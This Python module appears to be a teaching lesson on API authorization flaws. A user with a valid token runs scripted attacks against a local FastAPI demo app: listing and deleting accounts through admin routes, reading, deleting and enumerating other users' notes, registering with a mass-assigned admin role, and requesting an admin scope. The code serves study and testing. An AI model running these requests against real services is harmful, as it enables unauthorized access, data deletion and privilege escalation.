"""Lesson 03: attacks on authorization, made by a caller whose token is perfectly valid.

mallory has an ordinary account and logs in honestly. Everything below is what she can do
with that token when the service checks *who* she is but not *what she may do*:

1. Function level (API5:2023): list every account and delete one through the admin routes.
2. Object level (API1:2023): read and delete alice's note by its id, and tell the ids of
   other people's notes from ids that do not exist (enumeration).
3. Property level, mass assignment (API3:2023): register a new account with
   ``"role": "admin"`` in the body.
4. Scope escalation: ask the token endpoint for the ``users:admin`` scope.

Each ``run_*`` function sends real requests and judges the result; ``campaign`` sets a scene
on a fresh app and runs them all.
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence

import httpx2
from fastapi import FastAPI
from fastapi.testclient import TestClient
from jose import jwt

from lessons.access import USERS_ADMIN
from lessons.attacks import Account, AttackResult, new_password, seed

ATTACKER = "mallory"
# Ids no note will have in a small demo database: the attacker's "surely missing" probes.
MISSING_IDS = (9001, 9002)


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def request_token(client: httpx2.Client, username: str, password: str,
                  scopes: Iterable[str] = ()) -> httpx2.Response:
    """The OAuth2 password flow: a form with ``scope`` as one space-separated string."""
    form = {"username": username, "password": password, "scope": " ".join(scopes)}
    return client.post("/auth/token", data=form)


def login(client: httpx2.Client, account: Account, scopes: Iterable[str] = ()) -> str:
    """An access token for ``account``; the scene needs one, so failing here is an error."""
    response = request_token(client, account.username, account.password, scopes)
    if response.status_code != 200:
        raise RuntimeError(f"{account.username} could not log in: HTTP {response.status_code}")
    return str(response.json()["access_token"])


def scopes_in(token: str) -> list[str]:
    """The scopes a JWT carries. Its payload is only base64: anyone holding it can read it."""
    return sorted(str(jwt.get_unverified_claims(token).get("scope", "")).split())


# -- 1. function level ------------------------------------------------------------------------


def list_users(client: httpx2.Client, token: str) -> httpx2.Response:
    return client.get("/admin/users", headers=bearer(token))


def delete_user(client: httpx2.Client, token: str, username: str) -> httpx2.Response:
    return client.delete(f"/admin/users/{username}", headers=bearer(token))


def run_list_users(client: httpx2.Client, token: str) -> AttackResult:
    response = list_users(client, token)
    names = [user.get("username") for user in response.json()] \
        if response.status_code == 200 else []
    return AttackResult(
        name=f"{ATTACKER} lists every account through GET /admin/users",
        succeeded=response.status_code == 200,
        evidence=f"HTTP {response.status_code}"
        + (f", accounts: {', '.join(map(str, names))}" if names else ""),
    )


def run_delete_user(client: httpx2.Client, token: str, username: str) -> AttackResult:
    response = delete_user(client, token, username)
    return AttackResult(
        name=f"{ATTACKER} deletes the account {username!r} through DELETE /admin/users",
        succeeded=response.status_code == 204,
        evidence=f"HTTP {response.status_code}",
    )


# -- 2. object level --------------------------------------------------------------------------


def read_note(client: httpx2.Client, token: str, note_id: int) -> httpx2.Response:
    return client.get(f"/notes/{note_id}", headers=bearer(token))


def delete_note(client: httpx2.Client, token: str, note_id: int) -> httpx2.Response:
    return client.delete(f"/notes/{note_id}", headers=bearer(token))


def run_read_note(client: httpx2.Client, token: str, note_id: int, owner: str) -> AttackResult:
    response = read_note(client, token, note_id)
    body = response.json() if response.status_code == 200 else {}
    return AttackResult(
        name=f"{ATTACKER} reads note {note_id}, which belongs to {owner}",
        succeeded=body.get("owner") == owner,
        evidence=f"HTTP {response.status_code}"
        + (f", body {body.get('body')!r}" if body else ""),
    )


def run_delete_note(client: httpx2.Client, token: str, note_id: int, owner: str) -> AttackResult:
    response = delete_note(client, token, note_id)
    return AttackResult(
        name=f"{ATTACKER} deletes note {note_id}, which belongs to {owner}",
        succeeded=response.status_code == 204,
        evidence=f"HTTP {response.status_code}",
    )


def probe_notes(client: httpx2.Client, token: str,
                note_ids: Iterable[int]) -> dict[int, tuple[int, bytes]]:
    """What the service answers (status and exact body) for each note id."""
    answers = {}
    for note_id in note_ids:
        response = read_note(client, token, note_id)
        answers[note_id] = (response.status_code, response.content)
    return answers


def run_enumerate_notes(client: httpx2.Client, token: str, others_ids: Sequence[int],
                        missing_ids: Sequence[int] = MISSING_IDS) -> AttackResult:
    """Succeeds when any answer for someone else's note differs from the answer for a note
    that does not exist: then every id can be sorted into "exists" and "does not".

    ``others_ids`` (notes that exist but are not the attacker's) only judges the result; the
    attacker just tries ids one after another.
    """
    answers = probe_notes(client, token, [*others_ids, *missing_ids])
    missing = {answers[note_id] for note_id in missing_ids}
    telling = [note_id for note_id in others_ids if answers[note_id] not in missing]
    shown = ", ".join(f"{note_id} -> {answers[note_id][0]}" for note_id in answers)
    return AttackResult(
        name=f"{ATTACKER} tells other people's note ids from ids that do not exist",
        succeeded=bool(telling),
        evidence=(f"{len(telling)} of {len(others_ids)} existing notes answer differently "
                  f"from a missing one ({shown})"),
    )


# -- 3. mass assignment -----------------------------------------------------------------------


def register_as_admin(client: httpx2.Client, username: str, password: str) -> httpx2.Response:
    return client.post("/users", json={"username": username, "email": f"{username}@example.org",
                                       "password": password, "role": "admin"})


def run_register_as_admin(client: httpx2.Client, username: str = "eve",
                          password: str | None = None) -> AttackResult:
    response = register_as_admin(client, username, password or new_password())
    role = response.json().get("role") if response.status_code == 201 else None
    return AttackResult(
        name=f'register {username!r} with "role": "admin" in the body',
        succeeded=role == "admin",
        evidence=f"HTTP {response.status_code}" + (f", role {role!r}" if role else ""),
    )


# -- 4. scope escalation ----------------------------------------------------------------------


def run_request_scope(client: httpx2.Client, account: Account,
                      scope: str = USERS_ADMIN) -> AttackResult:
    response = request_token(client, account.username, account.password, [scope])
    granted = scopes_in(response.json()["access_token"]) if response.status_code == 200 else []
    return AttackResult(
        name=f"{account.username} (role {account.role!r}) asks for a token with {scope}",
        succeeded=scope in granted,
        evidence=f"HTTP {response.status_code}, the token carries: "
        + (" ".join(granted) or "no scopes"),
    )


# -- all of them, on a fresh app ------------------------------------------------------------


def stage(app: FastAPI) -> tuple[TestClient, dict[str, Account]]:
    """alice and bob (users, one note each), ada (admin) and mallory (user, the attacker),
    with random passwords, straight into the app's store."""
    people = seed(app, Account("alice", new_password()), Account("bob", new_password()),
                  Account("ada", new_password(), role="admin"), Account(ATTACKER, new_password()),
                  notes_each=1)
    return TestClient(app), people


def campaign(app: FastAPI) -> list[AttackResult]:
    """Every attack of this lesson, in order, against ``app`` (built in a fresh data folder)."""
    client, people = stage(app)
    token = login(client, people[ATTACKER])
    alice_note, bob_note = people["alice"].notes[0].id, people["bob"].notes[0].id
    return [
        run_list_users(client, token),
        run_read_note(client, token, alice_note, "alice"),
        run_enumerate_notes(client, token, [alice_note, bob_note]),
        run_delete_note(client, token, bob_note, "bob"),
        run_register_as_admin(client),
        run_request_scope(client, people[ATTACKER]),
        run_delete_user(client, token, "alice"),
    ]
